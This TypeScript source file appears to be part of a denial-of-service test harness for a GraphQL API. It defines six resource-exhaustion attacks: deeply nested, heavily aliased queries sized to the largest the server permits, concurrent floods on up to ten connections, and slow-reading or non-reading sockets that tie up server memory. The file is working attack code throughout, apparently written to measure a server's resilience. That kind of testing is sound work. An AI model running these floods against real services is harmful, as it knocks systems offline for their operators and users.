import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, graphql, repeat, type Target } from '../attack.ts'
import { flood, largestPermitted } from '../flood.ts'
import { sockets, textOf, write } from '../sockets.ts'

/** Aliases of texts over pages within pages. */
const texts = ({ printer }: Target, size: number, aliases: number) =>
  graphqlText(
    `user(by: { uuid: "${printer}" }) { posts(first: 100) { nodes { author { posts(first: ${size}) { nodes { ${repeat(aliases, (index) => `c${index}: content`)} } } } } } }`,
  )
const graphqlText = (selection: string) => `{ ${selection} }`

/** Adds a field that needs a resolver, so that graphql-js completes the whole result. */
const withResolver = (query: string) => query.replace('{', '{ rateLimit { cost }')

async function largest(
  target: Target,
  change = (query: string) => query,
): Promise<{ readonly request: ReturnType<typeof graphql>; readonly note: string }> {
  const request = (size: number) => graphql(change(texts(target, size, 1)), target.token)
  const size = await largestPermitted(target, 100, request)
  return { request: request(size), note: `100 × ${size} texts` }
}

/** As many flags as are permitted, over pages within pages. */
const flags = ({ printer }: Target, size: number) =>
  graphqlText(
    `user(by: { uuid: "${printer}" }) { posts(first: 100) { nodes { author { posts(first: ${size}) { nodes { ${repeat(49, (index) => `f${index}: locked`)} } } } } } }`,
  )

/** How much a slow reader reads at a time, and how long it pauses, in milliseconds. */
const slowly = { bytes: 16_384, pause: 100 } as const

/** Attacks by what is answered. */
export const largeAnswerAttacks: readonly Attack[] = [
  {
    row: '8',
    name: 'texts',
    about: '4 aliases of content over 100 × 100 posts, four at once',
    prepare: (target) => ({ strike: flood(target, 4, () => graphql(texts(target, 100, 4), target.token)) }),
  },
  {
    row: '8',
    name: 'texts-permitted',
    about: 'the largest answers that are permitted, on ten connections',
    prepare: async (target) => {
      const { request, note } = await largest(target)
      return { strike: flood(target, 10, () => request), note }
    },
  },
  {
    row: '8',
    name: 'texts-resolved',
    about: 'the largest answers that are permitted, beside a field with a resolver, on ten connections',
    prepare: async (target) => {
      const { request, note } = await largest(target, withResolver)
      return { strike: flood(target, 10, () => request), note }
    },
  },
  {
    row: '8',
    name: 'flags-resolved',
    about: '49 aliases of a flag over 100 × 89 posts, beside a field with a resolver, on ten connections',
    prepare: async (target) => {
      const request = (size: number) => graphql(withResolver(flags(target, size)), target.token)
      const size = await largestPermitted(target, 100, request)
      return { strike: flood(target, 10, () => request(size)), note: `100 × ${size} posts` }
    },
  },
  {
    row: '8',
    name: 'unread',
    about: 'the largest answers that are permitted, on 30 sockets that do not read',
    prepare: async (target) => {
      const { request, note } = await largest(target)
      const strike = sockets(target, 30, async (socket, until, tally) => {
        while (performance.now() < until) {
          await write(socket, textOf(request))
          tally.answered += 1
          await sleep(500)
        }
      })
      return { strike, note }
    },
  },
  {
    row: '8',
    name: 'slow-reading',
    about: 'the largest answers that are permitted, on 30 sockets that read 160 KB/s',
    prepare: async (target) => {
      const { request, note } = await largest(target)
      const strike = sockets(target, 30, async (socket, until, tally) => {
        await write(socket, textOf(request))
        tally.answered += 1
        while (performance.now() < until && !socket.destroyed) {
          socket.read(slowly.bytes)
          await sleep(slowly.pause)
        }
      })
      return { strike, note }
    },
  },
]
